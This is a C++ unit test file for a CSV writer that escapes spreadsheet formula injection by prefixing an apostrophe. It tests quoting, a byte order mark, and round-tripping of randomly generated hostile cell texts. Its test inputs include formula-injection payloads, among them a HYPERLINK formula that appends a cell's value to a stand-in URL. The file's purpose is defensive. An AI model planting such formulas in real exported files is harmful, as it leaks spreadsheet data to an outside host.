// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/table/CsvReader.h"
#include "core/table/CsvWriter.h"
#include "core/table/FormulaGuard.h"
#include "tests/support/Catch.h"

#include <random>

using namespace starosta;
using namespace starosta::table;
using namespace Qt::StringLiterals;
using test::valueOf;

namespace {

QStringList readBack(const CsvWriter &writer)
{
    const Table table = valueOf(readCsv(valueOf(decodeText(writer.content())), u';'));
    QStringList cells;
    for (qsizetype index = 0; index < table.rowCount(); ++index) {
        for (int column = 0; column < table.row(index).cellCount(); ++column)
            cells.append(table.row(index).cell(column).toString());
    }
    return cells;
}

QString written(const QString &text)
{
    CsvWriter writer;
    writer.addRow({text});
    return QString::fromUtf8(writer.content().sliced(3)).chopped(2);
}

} // namespace

TEST_CASE("A file begins with the byte order mark and its rows end with CRLF")
{
    CsvWriter writer;
    writer.addRow({u"Класс"_s, u"Учащихся"_s});
    writer.addText(u"1А");
    writer.addNumber(28);
    writer.endRow();
    CHECK(writer.content() == QByteArray("\xEF\xBB\xBFКласс;Учащихся\r\n1А;28\r\n"));
}

TEST_CASE("A row that was not ended is not in the file yet")
{
    CsvWriter writer;
    writer.addRow({u"a"_s});
    writer.addText(u"b");
    CHECK(writer.content() == QByteArray("\xEF\xBB\xBF"
                                         "a\r\n"));
}

TEST_CASE("Only what needs quotes is quoted")
{
    CHECK(written(u"Иванов Иван"_s) == u"Иванов Иван"_s);
    CHECK(written(u"a,b"_s) == u"a,b"_s);
    CHECK(written(u"a;b"_s) == u"\"a;b\""_s);
    CHECK(written(u"1 \"А\""_s) == u"\"1 \"\"А\"\"\""_s);
    CHECK(written(u"a\nb"_s) == u"\"a\nb\""_s);
    CHECK(written(u" a"_s) == u"\" a\""_s);
    CHECK(written(u"sep=;"_s) == u"\"sep=;\""_s);
}

TEST_CASE("A text that a spreadsheet would run is guarded by an apostrophe")
{
    const QString text = GENERATE(u"=HYPERLINK(1)"_s, u"+7 (912)"_s, u"-5"_s, u"@SUM"_s, u"＝1"_s, u"＋1"_s, u"－1"_s,
                                  u"＠1"_s, u" =1"_s, u"\u00A0=1"_s, u"'=1"_s);
    CAPTURE(text);
    CHECK(written(text).remove(u'"').startsWith(u"'"));
    CHECK(written(text).remove(u'"') == u'\'' + text);
}

TEST_CASE("A text that no spreadsheet runs is not guarded")
{
    const QString text = GENERATE(u"Иванов-Петров"_s, u"1=1"_s, u"'а"_s, u"О'Коннор"_s, u"''"_s, u""_s);
    CHECK_FALSE(needsFormulaGuard(text));
}

TEST_CASE("A figure of our own is never guarded")
{
    CsvWriter writer;
    writer.addNumber(-5);
    writer.addEmpty();
    writer.addNumber(0);
    writer.endRow();
    CHECK(writer.content().sliced(3) == QByteArray("-5;;0\r\n"));
}

TEST_CASE("Every text comes back as it was")
{
    CsvWriter writer;
    const QStringList texts = {u"=HYPERLINK(\"http://x/?\"&A1)"_s,
                               u"+7 (912) 000-00-00"_s,
                               u"-5"_s,
                               u"@SUM"_s,
                               u"\t=1"_s,
                               u"\r=1"_s,
                               u"\n=1"_s,
                               u"\r\nx"_s,
                               u"＝1"_s,
                               u"\"=1"_s,
                               u"'=1"_s,
                               u"''=1"_s,
                               u"'"_s,
                               u"'Аль"_s,
                               u"' =1"_s,
                               u"sep=,"_s,
                               u"a\"\"b"_s,
                               u"<b>x</b>"_s,
                               u"%1 %n"_s,
                               u"\uFEFFx"_s,
                               u"x"_s};
    for (const QString &text : texts)
        writer.addRow({text});
    CHECK(readBack(writer) == texts);
}

TEST_CASE("Ten thousand hostile texts come back as they were")
{
    const QList<QString> pieces = {u"="_s, u"+"_s,    u"-"_s,    u"@"_s,      u"'"_s,    u"\""_s,    u";"_s,
                                   u","_s, u"\t"_s,   u"\r"_s,   u"\n"_s,     u" "_s,    u"＝"_s,    u"＠"_s,
                                   u"1"_s, u"SUM("_s, u"Иван"_s, u"\u00A0"_s, u"sep="_s, u"\uFEFF"_s};
    std::mt19937 random(20260901);
    CsvWriter writer;
    QStringList texts;
    for (int i = 0; i < 10'000; ++i) {
        QString text;
        const auto length = 1 + random() % 6;
        for (unsigned k = 0; k < length; ++k)
            text += pieces[qsizetype(random() % unsigned(pieces.size()))];
        texts.append(text);
        writer.addRow({text, u"конец"_s});
    }
    const Table table = valueOf(readCsv(valueOf(decodeText(writer.content())), u';'));
    REQUIRE(table.rowCount() == texts.size());
    int equal = 0;
    for (qsizetype index = 0; index < texts.size(); ++index)
        equal += table.row(index).cell(0) == texts[index] && table.row(index).cell(1) == u"конец" ? 1 : 0;
    CHECK(equal == 10'000);
}

TEST_CASE("A row of one empty cell is not a blank line")
{
    CsvWriter writer;
    writer.addRow({u"a"_s});
    writer.addRow({u""_s});
    CHECK(readBack(writer) == QStringList{u"a"_s, u""_s});
}
